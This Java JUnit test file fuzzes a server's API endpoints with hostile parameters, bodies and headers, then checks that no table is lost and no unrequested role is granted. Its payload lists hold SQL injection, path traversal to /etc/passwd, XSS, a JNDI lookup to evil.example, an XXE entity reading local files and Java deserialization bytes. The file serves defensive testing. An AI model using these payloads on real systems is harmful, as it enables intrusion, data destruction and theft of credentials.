package org.lantian.server.attacks;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Collectors;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.lantian.server.identity.Administrators;
import org.lantian.server.testing.LantianTest;
import org.lantian.server.testing.TestServer;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Qualifier;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

@LantianTest
@DisplayName("Every endpoint, asked in a hostile way, answers with a problem in words and shows nothing of the inside:")
class HostileRequestsTest {

    /** Texts that have broken other programs. */
    private static final List<String> HOSTILE = List.of(
            "'; DROP TABLE account; --",
            "\" OR 1=1 --",
            "1); DELETE FROM audit_event; SELECT (1",
            "%' UNION SELECT password_hash FROM account --",
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "/etc/passwd\u0000.png",
            "\u0000",
            "<script>alert(1)</script>",
            "=cmd|' /C calc'!A0",
            "${jndi:ldap://evil.example/a}",
            "#{T(Runtime).getRuntime()}",
            "\r\nSet-Cookie: planted=1",
            "\u202e\ud83d\ude00\u0301蓝天",
            "\ud800",
            "",
            " ",
            "-1",
            "0",
            "2147483648",
            "9223372036854775808",
            "1e309",
            "NaN",
            "null",
            "true",
            "[]",
            "0000-00-00",
            "2026-02-30",
            "+999999999-12-31",
            "-999999999-01-01T00:00:00Z",
            "x".repeat(5_000));

    private final TestServer server;
    private final JdbcClient jdbc;
    private final RequestMappingHandlerMapping mapping;
    private final Administrators administrators;
    private final JsonMapper json = new JsonMapper();

    @Autowired
    HostileRequestsTest(
            TestServer server,
            JdbcClient jdbc,
            @Qualifier("requestMappingHandlerMapping") RequestMappingHandlerMapping mapping,
            Administrators administrators) {
        this.server = server;
        this.jdbc = jdbc;
        this.mapping = mapping;
        this.administrators = administrators;
    }

    @Test
    @DisplayName("(all of them are described, so that all are attacked)")
    void allAreKnown() {
        Set<String> described = ApiOperation.all(server).stream()
                .map(ApiOperation::path)
                .collect(Collectors.toCollection(TreeSet::new));
        Set<String> served = mapping.getHandlerMethods().keySet().stream()
                .flatMap(info -> info.getPatternValues().stream())
                .filter(path -> path.startsWith("/api/"))
                .collect(Collectors.toCollection(TreeSet::new));
        assertThat(described).containsAll(served);
    }

    @Test
    @DisplayName("in each part of its address and each parameter")
    void parameters() throws InterruptedException {
        Attacker attacker = new Attacker(server);
        for (ApiOperation operation : ApiOperation.all(server)) {
            List<String> names = new ArrayList<>(operation.pathParameters().keySet());
            names.addAll(operation.queryParameters().keySet());
            for (String name : names) {
                for (String value : HOSTILE) {
                    boolean emptyPath =
                            value.isEmpty() && operation.pathParameters().containsKey(name);
                    if (!emptyPath) {
                        attacker.plan(operation.method(), operation.address(name, value), "", Map.of());
                    }
                }
            }
        }
        Map<String, Long> before = tables();
        attacker.carryOut();
        assertThat(tables().keySet()).isEqualTo(before.keySet());
    }

    @Test
    @DisplayName("in each field of its body")
    void fields() throws InterruptedException {
        Attacker attacker = new Attacker(server);
        Set<String> innocentRoles = new TreeSet<>();
        for (ApiOperation operation : ApiOperation.all(server)) {
            ObjectNode body = operation.body();
            if (body == null) {
                continue;
            }
            body.path("roles").forEach(role -> innocentRoles.add(role.asString()));
            for (String field : body.propertyNames()) {
                for (JsonNode value : hostileValues()) {
                    ObjectNode changed = body.deepCopy();
                    changed.set(field, value);
                    attacker.plan(operation.method(), operation.address(), json(changed), jsonHeaders());
                }
            }
        }
        administrators.createMissing(); // as a start does
        Map<Integer, Set<String>> before = grantedRoles();
        long accounts = tables().getOrDefault("account", 0L);
        attacker.carryOut();
        assertThat(tables()).containsKeys("account", "audit_event", "station_day");
        assertThat(tables().get("account")).isGreaterThanOrEqualTo(accounts);
        // the command line may propose a role and grant it, and the requests meet in any order: the example's
        // role may have been granted by an honest pair of them, another never
        grantedRoles().forEach((account, roles) -> {
            roles.removeAll(before.getOrDefault(account, Set.of()));
            assertThat(roles)
                    .as("what account %d got, beyond the example's role", account)
                    .isSubsetOf(innocentRoles);
        });
    }

    @Test
    @DisplayName("with a body that is no JSON, too deep, too long, or something else altogether")
    void bodies() throws InterruptedException {
        Attacker attacker = new Attacker(server);
        for (ApiOperation operation : ApiOperation.all(server)) {
            if (!operation.changes()) {
                continue;
            }
            for (byte[] body : hostileBodies()) {
                attacker.plan(operation.method(), operation.address(), body, jsonHeaders());
            }
            for (String type : List.of(
                    "text/plain",
                    "application/xml",
                    "application/x-www-form-urlencoded",
                    "application/x-java-serialized-object",
                    "multipart/form-data",
                    "multipart/form-data; boundary=x",
                    "application/json; charset=utf-7",
                    "application/json; charset=none",
                    "nonsense")) {
                attacker.plan(
                        operation.method(), operation.address(), "--x\r\n{\"a\": 1}", Map.of("Content-Type", type));
            }
        }
        attacker.carryOut();
    }

    @Test
    @DisplayName("with headers made up")
    void headers() throws InterruptedException {
        Map<String, List<String>> headers = new LinkedHashMap<>();
        headers.put("Accept", List.of("*/*;q=x", "application/xml", "a/b/c", "x".repeat(4_000)));
        headers.put("Accept-Language", List.of("'; --", "zz-ZZ-" + "x".repeat(3_000), "*;q=9"));
        headers.put(
                "If-Match",
                List.of("*", "\"v1\"", "\"v-1\"", "\"v99999999999999\"", "W/\"v1\"", "'; --", "\"v1\", \"v2\""));
        headers.put("If-None-Match", List.of("*", "\"", "W/\"x\"", "x".repeat(4_000)));
        headers.put("If-Modified-Since", List.of("yesterday", "Thu, 01 Jan 1970 00:00:00 GMT"));
        headers.put("Idempotency-Key", List.of("short", "'; DROP TABLE idempotency_key; --", "x".repeat(500)));
        headers.put("Range", List.of("bytes=0-0", "bytes=-1", "bytes=9-1,2-3,4-5", "lines=1-2"));
        headers.put("X-Request-Id", List.of("a b c d e f g h", "x".repeat(1_000)));
        headers.put("X-Forwarded-For", List.of("not-an-address", "127.0.0.1", "x".repeat(3_000)));
        headers.put("X-Forwarded-Proto", List.of("https", "javascript"));
        headers.put("X-Forwarded-Host", List.of("evil.example"));
        headers.put("X-HTTP-Method-Override", List.of("DELETE"));
        headers.put(
                "Cookie",
                List.of(
                        "LANTIAN_SESSION=\"",
                        "LANTIAN_SESSION='; --",
                        "=;=;=",
                        "LANTIAN_SESSION=" + "x".repeat(4_000)));
        headers.put("Authorization", List.of("Bearer ", "Bearer 0000", "Basic !!!", "Negotiate", "Bearer '; --"));
        headers.put("Origin", List.of("null", "https://evil.example"));
        headers.put("Content-Encoding", List.of("gzip", "none"));
        Attacker attacker = new Attacker(server);
        for (ApiOperation operation : ApiOperation.all(server)) {
            headers.forEach((name, values) -> values.forEach(
                    value -> attacker.plan(operation.method(), operation.address(), "", Map.of(name, value))));
        }
        attacker.carryOut();
    }

    @Test
    @DisplayName("with fields that are not asked for, such as a role or a version")
    void uninvitedFields() throws InterruptedException {
        List<String> accepted = new ArrayList<>();
        for (ApiOperation operation : ApiOperation.all(server)) {
            ObjectNode body = operation.body();
            if (body == null) {
                continue;
            }
            for (String field : List.of(
                    "roles", "granted", "administrator", "accountId", "id", "state", "passwordHash", "__proto__")) {
                if (!body.has(field)) {
                    ObjectNode more = body.deepCopy().put(field, "SYSTEM_ADMINISTRATOR");
                    TestServer.Answer answer =
                            server.asAdministrator(operation.method(), operation.address(), json(more));
                    if (answer.status() < 400) {
                        accepted.add(operation + " took " + field);
                    }
                }
            }
        }
        assertThat(accepted).isEmpty();
    }

    private List<JsonNode> hostileValues() {
        JsonNodeFactory nodes = JsonNodeFactory.instance;
        List<JsonNode> values = new ArrayList<>();
        HOSTILE.forEach(text -> values.add(nodes.stringNode(text)));
        values.add(nodes.nullNode());
        values.add(nodes.numberNode(-1));
        values.add(nodes.numberNode(Long.MAX_VALUE));
        values.add(nodes.numberNode(new java.math.BigDecimal("1e400")));
        values.add(nodes.booleanNode(true));
        values.add(nodes.arrayNode());
        values.add(nodes.arrayNode().add(nodes.nullNode()));
        values.add(nodes.objectNode());
        values.add(nodes.objectNode().put("@class", "java.lang.Runtime"));
        return values;
    }

    private static List<byte[]> hostileBodies() {
        return List.of(
                bytes("{"),
                bytes("{\"a\":"),
                bytes("[1,2,3]"),
                bytes("\"text\""),
                bytes("null"),
                bytes("{}{}"),
                bytes("{\"a\": 1, \"a\": 2}"),
                bytes("{\"a\": " + "9".repeat(5_000) + "}"),
                bytes("{\"a\": \"" + "x".repeat(400_000) + "\"}"),
                bytes("{\"" + "n".repeat(5_000) + "\": 1}"),
                bytes("[".repeat(50_000) + "]".repeat(50_000)),
                bytes("{\"a\":".repeat(20_000) + "1" + "}".repeat(20_000)),
                bytes("{\"a\": \"" + "y".repeat(1_100_000) + "\"}"),
                bytes("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"),
                new byte[] {'{', '"', (byte) 0xff, (byte) 0xfe, '"', ':', '1', '}'},
                new byte[] {(byte) 0xac, (byte) 0xed, 0, 5});
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private String json(JsonNode node) {
        return json.writeValueAsString(node);
    }

    private static Map<String, String> jsonHeaders() {
        return Map.of("Content-Type", "application/json", "If-Match", "\"v1\"");
    }

    private Map<Integer, Set<String>> grantedRoles() {
        Map<Integer, Set<String>> granted = new LinkedHashMap<>();
        jdbc.sql("SELECT account_id, role FROM account_role WHERE granted").query(row -> {
            granted.computeIfAbsent(row.getInt(1), id -> new TreeSet<>()).add(row.getString(2));
        });
        return granted;
    }

    /** Tables with their number of rows. */
    private Map<String, Long> tables() {
        Map<String, Long> tables = new LinkedHashMap<>();
        jdbc.sql("SELECT table_name FROM information_schema.tables WHERE table_schema = 'public' ORDER BY 1")
                .query(String.class)
                .list()
                .forEach(table -> tables.put(
                        String.valueOf(table),
                        jdbc.sql("SELECT count(*) FROM " + table)
                                .query(Long.class)
                                .single()));
        return tables;
    }
}
